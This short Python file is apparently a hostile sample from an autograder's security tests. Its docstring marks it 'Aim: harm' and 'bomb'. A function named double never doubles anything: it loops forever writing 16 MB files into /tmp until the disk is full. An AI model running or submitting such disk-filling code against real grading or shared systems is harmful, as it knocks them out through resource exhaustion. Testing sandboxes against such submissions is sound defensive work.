"""Writes files until the disk is full.

Aim: harm
Stock: skip (bomb)
"""
import itertools


def double(x):
    for number in itertools.count():
        with open(f"/tmp/autograder-attack-{number}", "wb") as file:
            file.write(bytes(1 << 24))
